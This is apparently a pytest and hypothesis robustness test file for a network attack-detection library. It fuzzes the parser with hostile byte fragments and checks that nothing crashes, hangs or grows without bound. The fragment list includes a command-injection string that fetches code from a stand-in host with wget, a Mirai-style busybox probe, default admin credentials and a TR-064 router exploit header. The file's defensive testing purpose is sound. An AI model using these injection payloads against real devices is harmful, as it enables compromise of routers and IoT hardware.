"""Hostile bytes: nothing raises, nothing takes long, nothing grows without bound."""

from __future__ import annotations

import time

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from tests.dialogue.said import dialogue

from rearguard.catalogue import load, load_attacks
from rearguard.dialogue.exchange import Exchange
from rearguard.dialogue.fold import Dialogue
from rearguard.dialogue.hear import hear
from rearguard.dialogue.shell import injection
from rearguard.model.bits import TCP, UDP

SIZE = 16384
PATIENCE = 1.0
"""Seconds for one dialogue on a busy machine; the worst is some thirty milliseconds on an idle one."""

PIECES = [
    b"GET ", b"POST /UD/act?1", b" HTTP/1.1\r\n", b"\r\n", b"\n\n", b"HTTP/1.1 401 X\r\n", b"Host: a\r\n", b"5",
    b"Transfer-Encoding: chunked\r\n", b"Content-Length: ", b"Authorization: Basic ", b"YWRtaW46YWRtaW4=", b"a=b&",
    b"SOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers\r\n", b"Cookie: C123456=", b"fffff\r\n", b"\x00",
    b"<s:Envelope>", b"<s:Body>", b"<u:A xmlns:u='urn:x'>", b"<NewNTPServer1>", b"</", b"<cwmp:Inform>", b"%60",
    b"urn:dslforum-org:cwmp-1-0", b"<![CDATA[", b"]]>", b"<!--", b"-->", b"&amp;", b"&#x60;", b"$(", b"CNXN", b";",
    b"`cd /tmp;wget http://h.invalid/x`", b"login: ", b"Password: ", b"# ", b"root\r\n", b"shell:", b"SSH-2.0-x\n",
    b"/bin/busybox ECCHI\r\n", b"\xff\xfd\x01", b"\xff\xfa", b"\xff\xf0", b"\x7f", b"M-SEARCH * HTTP/1.1\r\n",
    b"\x30\x82", b"\x02\x01\x00\x04\x06public", b"\x16\x03\x01\x00\x05\x01",
]  # fmt: skip

payloads = st.one_of(
    st.binary(max_size=200),
    st.lists(st.one_of(st.sampled_from(PIECES), st.binary(max_size=6)), max_size=30).map(b"".join),
)


def listened(one: Dialogue) -> Exchange:
    return hear(one, load_attacks(), load())


@given(
    turns=st.lists(st.tuples(st.sampled_from(["client", "server"]), payloads), min_size=1, max_size=6),
    port=st.sampled_from([23, 80, 161, 554, 1900, 5555, 7547, 9034, 53413]),
    proto=st.sampled_from([TCP, UDP]),
    skip=st.sampled_from([0, 0, 7]),
)
@settings(max_examples=600, deadline=None)
@example(turns=[("client", b"")], port=23, proto=TCP, skip=7)
def test_whatever_is_said_is_heard(turns: list[tuple[str, bytes]], port: int, proto: int, skip: int) -> None:
    one = dialogue(turns, port=port, proto=proto, skip=skip)
    found = listened(one)
    records = {number for number, (_, payload) in enumerate(turns, 1) if payload}
    proofs = [hit.proof for hit in found.hits] + [secret.proof for secret in found.secrets]
    assert {proof.rec for proof in proofs} <= records
    assert all(len(hit.excerpt) <= 200 for hit in found.hits)
    assert len(found.path) <= 200
    assert listened(one) == found


def repeated(piece: bytes, head: bytes = b"") -> bytes:
    return (head + piece * (SIZE // len(piece) + 1))[:SIZE]


SOAP = b"POST / HTTP/1.1\r\nSOAPAction: urn:dslforum-org:service:x#b\r\n\r\n<s:Body><x>"
FORM = b"POST /cgi-bin/x HTTP/1.1\r\n\r\na="


@pytest.mark.parametrize(
    "payload",
    [
        *(repeated(piece) for piece in PIECES),
        *(repeated(piece, SOAP) for piece in (b"<", b"<a>", b"<a ", b"<a>;;</a>", b"&#", b"<![CDATA[", b" xmlns=")),
        *(repeated(piece, FORM) for piece in (b";", b"` ", b"; \"'", b";wget ", b"http://a.b ", b"a.", b";cat ")),
        repeated(b"GET / HTTP/1.1\r\n"),
        repeated(b"GET / HTTP/1.1\r\n\r\n"),
        repeated(b"Host: a\r\n", b"GET / HTTP/1.1\r\n"),
        repeated(b"C1234", b"GET / HTTP/1.1\r\nCookie: "),
        repeated(b"1\r\na\r\n", b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"),
        repeated(b" HTTP/1.1\n"),
        repeated(b"a", b"GET /?"),
        repeated(b"\0"),
        repeated(b":"),
        repeated(b"\x1b[;"),
        repeated(b"user "),
    ],
    ids=lambda payload: repr(payload[60:90]),
)  # fmt: skip
@pytest.mark.parametrize("port", [23, 80])
def test_no_payload_takes_long(payload: bytes, port: int) -> None:
    for turns in ([("client", payload)], [("client", b"GET / HTTP/1.1\r\n\r\n" * 8), ("server", payload)]):
        one = dialogue(turns, port=port)
        began = time.perf_counter()
        listened(one)
        assert time.perf_counter() - began < PATIENCE


@given(st.text(alphabet="abcd &;|$'\"`<>()\\/%#!?*=+-_.:,0159\n", max_size=40))
@settings(max_examples=500, deadline=None)
def test_text_without_a_command_is_no_injection(text: str) -> None:
    # No command of the list can be spelled with these letters but dd and cd.
    found = injection(text.encode())
    assert found is None or "dd" in text or "cd" in text
